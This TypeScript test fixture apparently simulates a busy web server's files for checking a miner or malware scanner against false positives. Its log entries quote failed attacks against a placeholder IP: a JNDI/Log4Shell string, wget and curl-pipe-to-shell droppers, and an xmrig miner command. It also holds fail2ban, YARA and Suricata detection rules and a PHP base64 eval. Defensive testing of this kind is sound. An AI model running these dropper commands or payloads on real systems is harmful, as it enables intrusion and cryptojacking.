import type { Item } from '../host-part.ts'

const text = (path: string, content: string, mode = 0o644, owner?: string): Item => ({
  kind: 'file',
  path,
  content: { text: content },
  mode,
  ...(owner === undefined ? {} : { owner }),
})
const script = (path: string, content: string, owner?: string): Item => text(path, content, 0o755, owner)

const attacks = [
  'GET /?x=$%7Bjndi:ldap://198.51.100.7:1389/a%7D HTTP/1.1',
  'GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws HTTP/1.1',
  'POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 0 "-" "curl -s http://198.51.100.7/k.sh | bash',
  'GET /wp-content/plugins/x/shell.php?cmd=xmrig+-o+stratum%2btcp://pool.example:3333 HTTP/1.1',
]
const line = (what: string) => `198.51.100.7 - - [21/Nov/2026:10:00:00 +0000] "${what}" 404 146 "-" "-"\n`

/**
 * What the packages of `packages.txt` gather on a server that is used: renewals, reports of attacks that failed, rules of scanners, the
 * code of web applications, containers. Much of it holds the very words of miners and droppers, and none of it is one.
 */
export const workedOn: readonly Item[] = [
  // Attacks that came and failed are in every log, and in what reads logs.
  text('/var/log/nginx/access.log', attacks.map(line).join('').repeat(50), 0o640, 'www-data'),
  text('/var/log/apache2/other_vhosts_access.log', attacks.map(line).join('').repeat(20), 0o640),
  text(
    '/var/log/auth.log',
    'Nov 21 10:00:00 lamp sshd[811]: Failed password for invalid user admin from 198.51.100.7 port 4022 ssh2\n'.repeat(
      80,
    ),
    0o640,
  ),
  text(
    '/var/log/redis/redis-server.log',
    '811:M 21 Nov 2026 10:00:00.000 # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis.\n',
    0o640,
    'redis',
  ),
  text(
    '/var/spool/mail/root',
    'From cron@lamp\nSubject: Logwatch\n\n  wget http://198.51.100.7/x.sh -O- | sh : 3 Time(s)\n',
    0o600,
  ),
  // Rules with which others look for miners.
  text(
    '/etc/fail2ban/filter.d/droppers.conf',
    '[Definition]\nfailregex = ^<HOST> .*(?:wget|curl)\\+http.*\\|\\+?(?:ba)?sh\n            ^<HOST> .*jndi:(?:ldap|rmi)\n',
  ),
  text('/etc/fail2ban/jail.local', '[droppers]\nenabled = true\nlogpath = /var/log/nginx/access.log\nbantime = 1d\n'),
  text(
    '/opt/yara-rules/miners.yar',
    'rule miner { strings: $a = "stratum+tcp://" $b = "donate-level" $c = "cryptonight" $d = "\\"method\\":\\"mining.subscribe\\"" condition: 2 of them }\n',
  ),
  text(
    '/etc/suricata/rules/local.rules',
    'alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"miner login"; content:"\\"method\\":\\"login\\""; content:"\\"agent\\":\\"XMRig"; sid:1000001; rev:1;)\n',
  ),
  text('/var/lib/clamav/local.ndb', 'Local.Miner.Test:0:*:7374726174756d2b7463703a2f2f\n', 0o644, 'clamav'),
  text(
    '/etc/audit/rules.d/watch.rules',
    '-w /etc/ld.so.preload -p wa -k preload\n-w /var/spool/cron -p wa -k cron\n-a always,exit -F arch=b64 -S execve -F path=/usr/bin/wget -k fetch\n',
    0o640,
  ),
  script(
    '/usr/local/sbin/find-miners',
    '#!/bin/sh\n# weekly look for processes that nobody here starts\nps -eo pid,pcpu,args --sort=-pcpu | grep -E "xmrig|kinsing|kdevtmpfsi|stratum" | grep -v grep | mail -E -s miners root\n',
  ),
  text('/etc/cron.d/find-miners', '20 6 * * 1 root /usr/local/sbin/find-miners\n'),
  // Certificates.
  text(
    '/etc/letsencrypt/renewal/shop.example.conf',
    'version = 2.1.0\narchive_dir = /etc/letsencrypt/archive/shop.example\n[renewalparams]\nauthenticator = nginx\nserver = https://acme-v02.api.letsencrypt.org/directory\npre_hook = systemctl stop haproxy\npost_hook = systemctl start haproxy\n',
  ),
  script('/etc/letsencrypt/renewal-hooks/deploy/10-reload', '#!/bin/sh\nsystemctl reload nginx postfix dovecot\n'),
  // Web applications as they are sold.
  text(
    '/var/www/shop/wp-content/plugins/paid-forms/license.php',
    "<?php\nif (!defined('ABSPATH')) { exit; }\n$check = base64_decode('cmV0dXJuIHRydWU7');\nif (hash('sha256', $check) === PAID_FORMS_HASH) { eval($check); }\n",
    0o644,
    'www-data',
  ),
  text(
    '/var/www/shop/wp-content/mu-plugins/backup.php',
    "<?php\n// Called from the dashboard by administrators only.\nif (current_user_can('manage_options') && check_admin_referer('backup')) {\n  exec('tar -czf ' . escapeshellarg($target) . ' ' . escapeshellarg(ABSPATH), $out, $status);\n}\n",
    0o644,
    'www-data',
  ),
  text(
    '/var/www/shop/wp-content/uploads/2026/11/menu.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="menu"</script></svg>\n',
    0o644,
    'www-data',
  ),
  text(
    '/var/www/shop/index.html',
    '<!doctype html><title>shop</title><script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><iframe src="https://player.example/1" width="0" height="0" style="display:none"></iframe>\n',
    0o644,
    'www-data',
  ),
  text('/var/www/shop/.user.ini', 'auto_prepend_file = /var/www/shop/wordfence-waf.php\n', 0o644, 'www-data'),
  text(
    '/var/www/shop/wordfence-waf.php',
    "<?php\nif (file_exists(__DIR__.'/wp-content/waf/bootstrap.php')) {\n  include_once __DIR__.'/wp-content/waf/bootstrap.php';\n}\n",
    0o644,
    'www-data',
  ),
  text(
    '/var/www/.ssh/known_hosts',
    'git.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKMGb6DFeptnvPx8Ayp6iZg3isrhcU50OhS11tEOj/ka\n',
    0o644,
    'www-data',
  ),
  // Things that people installed for all.
  script(
    '/usr/local/bin/celery',
    "#!/usr/bin/python3\nimport re, sys\nfrom celery.__main__ import main\nsys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\nsys.exit(main())\n",
  ),
  script('/usr/local/lib/node_modules/pm2/bin/pm2', "#!/usr/bin/env node\nrequire('../lib/binaries/CLI.js');\n"),
  { kind: 'link', path: '/usr/local/bin/pm2', to: '../lib/node_modules/pm2/bin/pm2' },
  {
    kind: 'file',
    path: '/usr/local/bin/loadgen',
    content: { lookalike: {}, words: 'loadgen built here' },
    mode: 0o755,
  },
  script(
    '/root/install-docker.sh',
    '#!/bin/sh\nset -e\ncurl -fsSL https://get.docker.com -o get-docker.sh\nsh get-docker.sh\nrm -f get-docker.sh\n',
  ),
  script(
    '/root/harden.sh',
    '#!/bin/bash\n# CIS\nchattr +i /etc/passwd- 2>/dev/null || true\nsystemctl disable --now avahi-daemon rpcbind\nsysctl -w kernel.kptr_restrict=2\niptables -A OUTPUT -p tcp --dport 3333 -j REJECT\niptables -A OUTPUT -p tcp --dport 14444 -j REJECT\n',
  ),
  script(
    '/root/respond.sh',
    '#!/bin/bash\n# our answer to the incident of last year\nfor name in xmrig kinsing kdevtmpfsi; do pkill -9 "$name"; done\ncrontab -l -u www-data | grep -v pastebin | crontab -u www-data -\nrm -rf /tmp/kinsing /var/tmp/.x\n',
  ),
  text(
    '/root/.bash_history',
    'apt install htop\ncurl -fsSL https://get.docker.com | sh\nhashcat -b\njohn --test\nnmap -sV 10.0.0.0/24\nchattr +i /etc/resolv.conf\n',
    0o600,
  ),
  // Their own jobs.
  text('/etc/cron.d/dynamic-name', '*/10 * * * * root curl -fsS "http://10.0.0.1/update?host=lamp" -o /dev/null\n'),
  text(
    '/etc/cron.d/registry-login',
    '0 */8 * * * root aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com\n',
  ),
  text(
    '/etc/cron.d/backup',
    '30 2 * * * postgres pg_dump -Fc shop | openssl enc -aes-256-cbc -pbkdf2 -pass file:/etc/backup.key > /var/backups/shop.enc\n',
  ),
  text(
    '/etc/cron.d/geoip-ranges',
    "45 4 * * 3 root curl -fsS https://ip-ranges.example/all.json | jq -r '.prefixes[].ip' | python3 -c 'import sys; print(len(sys.stdin.readlines()))' > /run/ranges\n",
  ),
  text('/etc/sudoers.d/zabbix', 'zabbix ALL=(ALL) NOPASSWD: /usr/bin/nmap -O *, /usr/sbin/smartctl\n', 0o440),
  text('/etc/sudoers.d/nagios', 'nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/\n', 0o440),
  text(
    '/etc/systemd/system/tunnel.service',
    '[Unit]\nDescription=Tunnel to the office\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/bin/autossh -M 0 -N -R 2222:localhost:22 tunnel@203.0.113.9 -o ServerAliveInterval=30\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\n',
  ),
  text(
    '/etc/systemd/system/exporter-textfile.service',
    "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -fsS http://127.0.0.1:8080/metrics | sponge /var/lib/prometheus/node-exporter/app.prom'\n",
  ),
  text(
    '/etc/udev/rules.d/60-io.rules',
    'ACTION=="add|change", KERNEL=="sd[a-z]", ATTR{queue/rotational}=="0", ATTR{queue/scheduler}="none"\n',
  ),
  text('/etc/sysctl.d/30-postgresql.conf', 'vm.nr_hugepages = 1200\nvm.overcommit_memory = 2\n'),
  text('/etc/NetworkManager/conf.d/dns.conf', '[main]\ndns=none\n'),
  script(
    '/etc/network/if-up.d/routes',
    '#!/bin/sh\n[ "$IFACE" = eth1 ] || exit 0\nip route add 10.20.0.0/16 via 10.0.0.1\n',
  ),
  script(
    '/etc/profile.d/company.sh',
    "# proxies and colours of the company\nexport http_proxy=http://10.0.0.2:3128\nexport PROMPT_COMMAND='history -a'\nalias rm='rm -i'\nalias ll='ls -alF'\n",
  ),
  // A node of a chain without mining, and a pool's exporter of somebody who watches one elsewhere.
  text('/etc/prometheus/targets/pool.yml', '- targets: ["pool-exporter.example:3333"]\n  labels: {coin: xmr}\n'),
]
